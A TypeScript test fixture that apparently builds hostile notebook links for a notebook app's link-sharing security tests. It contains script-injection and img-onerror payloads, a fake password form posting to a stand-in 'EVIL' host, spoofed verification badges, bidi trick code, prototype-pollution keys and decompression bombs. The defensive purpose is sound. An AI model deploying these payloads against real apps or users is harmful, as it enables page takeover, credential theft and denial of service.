import { inflateSync } from "fflate";
import { fromBase64url } from "../../components/link/base64url";
import { fragmentOf } from "../../components/link/encode";
import { forged } from "../../components/link/links.testing";
import { words } from "../../components/link/words";
import { parseNotebook } from "../../components/notebook/file";
import { deskOf } from "../../components/notebook/files";
import { type Evil, notebookOf, type OutputAttack, outputAttacks } from "./outputAttacks";

/*
 * What a stranger may put into a link. Those that open are written by our own encoder, out of what `outputAttacks` holds
 * and more; those that must not open are forged, with check letters that are right.
 */

/** Opens; `calm` is the same notebook with nothing bad in it, and the page around both must be alike. */
export interface OpeningLink {
  name: string;
  cells: number;
  link(evil: Evil): string;
  calm: string;
}

const encoded = (notebook: string) => fragmentOf(deskOf(parseNotebook(notebook), "notebook.ipynb"), true);

/** Our encoder writes no forbidden keys: the metadata are those of `ownMetadata`. */
const group = (name: string, of: readonly OutputAttack["of"][]): OpeningLink => {
  const attacks = outputAttacks.filter((attack) => of.includes(attack.of));
  return {
    name,
    cells: attacks.length,
    link: (evil) => encoded(notebookOf(attacks, evil)),
    calm: encoded(
      notebookOf(
        attacks.map((attack) => ({ ...attack, payload: "harmless" })),
        { url: "", udp: "" },
      ),
    ),
  };
};

type Cell = { source?: string; outputs?: unknown[]; metadata?: object };
const written = (name: string, hostile: readonly Cell[], metadata: object = {}): OpeningLink => {
  const text = (cells: readonly Cell[], metadata: object) =>
    JSON.stringify({
      cells: cells.map(({ source = "", outputs = [], metadata = {} }, at) => ({
        id: `cell-${at + 1}`,
        cell_type: "code",
        source,
        metadata,
        outputs,
        execution_count: 1,
      })),
      metadata,
      nbformat: 4,
      nbformat_minor: 5,
    });
  const calm = hostile.map(({ outputs }) => ({ ...(outputs && { outputs: [shown({ "text/plain": "harmless" })] }) }));
  return {
    name,
    cells: hostile.length,
    link: (evil) => encoded(text(hostile, metadata).replaceAll("EVIL", evil.url)),
    calm: encoded(text(calm, {})),
  };
};
const shown = (data: object, metadata: object = {}) => ({ output_type: "display_data", data, metadata });

const own = `top.document.documentElement.dataset.owned='link'`;
const badge = `<button data-testid=\\"badge\\" data-grade=\\"text\\">same text</button>`.replaceAll("\\", "");

export const openingLinks: readonly OpeningLink[] = [
  group("HTML that runs, loads, leads away and covers the page", ["text/html"]),
  group("SVG that runs and loads", ["image/svg+xml"]),
  group("Markdown with markup of its own", ["text/markdown"]),
  group("LaTeX that loads and links", ["text/latex"]),
  group("figures with pictures and links", ["application/vnd.plotly.v1+json"]),
  group("tracebacks, streams and cells with markup", ["error", "stream", "cell"]),
  group("attachments and pictures that are something else", ["attachment", "image/png"]),
  group("scripts as outputs", ["application/javascript"]),
  written(
    "metadata that claim trust, a run, a network and another place",
    [
      {
        source: "print(1)",
        outputs: [
          shown(
            { "text/html": `<p>x</p><script>${own}</script>`, "text/plain": "x" },
            { "text/html": { isolated: false, trusted: true } },
          ),
        ],
        metadata: {
          trusted: true,
          init_cell: true,
          autorun: true,
          sporebook: { trusted: true, autorun: true, cut: { lines: -1 } },
        },
      },
    ],
    {
      trusted: true,
      sporebook: {
        trusted: true,
        network: ["evil.example.org"],
        autorun: true,
        reference: `"><script>${own}</script>`,
      },
      kernelspec: { name: "python3", display_name: `<img src=EVIL/spec onerror="${own}">`, language: "python" },
      widgets: { "application/vnd.jupyter.widget-state+json": { state: {}, src: "EVIL/widget" } },
    },
  ),
  written("outputs that imitate a grade, a bar and a login", [
    {
      source: "print('wrong')",
      outputs: [
        { output_type: "stream", name: "stdout", text: "42\n" },
        shown({ "text/html": `${badge}<div data-bar="verified">✓ Verified by Sporebook</div>`, "text/plain": "x" }),
        shown({ "text/markdown": `${badge} <div data-testid="score">15 of 15 reproduced</div>`, "text/plain": "x" }),
        shown({
          "text/html": `<form action="EVIL/login"><input type=password autofocus><button data-press>Log in</button></form>`,
          "text/plain": "x",
        }),
      ],
      metadata: { sporebook: { grade: "text", reproduction: { grade: "text" } } },
    },
  ]),
  written("handles to tensors that are nobody's", [
    {
      outputs: [
        shown({
          "application/vnd.sporebook.tensor+json": {
            handle: "__proto__",
            shape: [1e9, 1e9],
            src: "EVIL/tensor",
            dtype: `<img src=EVIL/dtype>`,
          },
          "text/plain": "x",
        }),
        shown({
          "application/vnd.sporebook.progress+json": { done: -1, total: "__proto__", text: `<img src=EVIL/progress>` },
          "text/plain": "x",
        }),
      ],
    },
  ]),
  written("code that reads otherwise than it runs", [
    { source: 'access = "user\u202e \u2066# if admin\u2069 \u2066"\n\u0430dmin = "x\u200by"' },
    { source: `"\u202e${"\u2066".repeat(1_000)}"` },
  ]),
];

/** Does not open, with a sentence. `isReal` looks at what a careless page unfolds it to. */
export interface RefusedLink {
  name: string;
  link: string;
  words: RegExp;
  isReal(unfolded: Uint8Array): boolean;
}

const textOf = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
const parsedOf = (bytes: Uint8Array) => JSON.parse(textOf(bytes)) as { c: unknown[] };
const levels = (value: unknown): number => (Array.isArray(value) ? 1 + levels(value[0]) : 0);
const endsTheStack = (act: () => unknown) => {
  try {
    act();
    return false;
  } catch (error) {
    return error instanceof RangeError;
  }
};
const noise = (length: number) =>
  Array.from({ length }, (_, at) => ((Math.imul(at + 1, 2654435761) >>> 9) % 4096).toString(36)).join("");

export const refusedLinks: readonly RefusedLink[] = [
  {
    name: "keys of the prototype",
    link: forged('{"m":{"__proto__":{"polluted":1}},"c":[{"s":"","m":{"__proto__":{"polluted":1}}}]}', "n1"),
    words: /the key “__proto__”/,
    isReal: (bytes) => Object.hasOwn((parsedOf(bytes) as unknown as { m: object }).m, "__proto__"),
  },
  {
    name: "keys of the constructor",
    link: forged('{"c":[{"s":"","a":{"constructor":{"prototype":{"polluted":1}}}}]}', "n1"),
    words: /the key “constructor”/,
    isReal: (bytes) => textOf(bytes).includes('"constructor"'),
  },
  {
    name: "ten million bytes in ten thousand letters",
    link: forged(new Uint8Array(10_000_000), "n1", 9),
    words: /at most/,
    isReal: (bytes) => bytes.length === 10_000_000,
  },
  {
    name: "a ratio of a thousand",
    link: forged(JSON.stringify({ c: [{ s: " ".repeat(1_000_000) }] }), "n1", 9),
    words: /200 times its own length/,
    isReal: (bytes) => bytes.length > 1_000_000,
  },
  {
    name: "a million cells",
    link: forged(`{"c":[${Array(1_000_000).fill('{"s":""}').join()}]}`, "n1", 9),
    words: /at most/,
    isReal: (bytes) => parsedOf(bytes).c.length === 1_000_000,
  },
  {
    name: "five hundred and one cells",
    link: forged(JSON.stringify({ c: Array(501).fill({ s: "" }) }), "n1"),
    words: /at most 500 cells, but this one has 501/,
    isReal: (bytes) => parsedOf(bytes).c.length === 501,
  },
  {
    name: "thirty thousand levels of lists",
    link: forged(`{"c":${"[".repeat(30_000)}${"]".repeat(30_000)}}`, "n1", 9),
    words: /At most 40 levels/,
    isReal: (bytes) => endsTheStack(() => levels(parsedOf(bytes).c)),
  },
  {
    name: "a cell that is too long",
    link: forged(JSON.stringify({ c: [{ s: `${noise(30_000)}${"ab ".repeat(80_000)}` }] }), "n1", 9),
    words: /A cell in a link has at most 256 KiB/,
    isReal: (bytes) => bytes.length > 256 * 1024,
  },
  {
    name: "fields that no link has",
    link: forged('{"trusted":true,"run":true,"c":[]}', "n1"),
    words: /is not what it must be/,
    isReal: (bytes) => "trusted" in parsedOf(bytes),
  },
  {
    name: "a text that is no text",
    link: forged('{"c":[{"s":{"toString":"x"}}]}', "n1"),
    words: /c\[0\]\.s is not/,
    isReal: (bytes) => typeof (parsedOf(bytes).c[0] as { s: unknown }).s === "object",
  },
];

/** What a page without limits makes of a link's letters. */
export const carelesslyUnfolded = (link: string) => inflateSync(fromBase64url(link.slice(6))!, { dictionary: words });
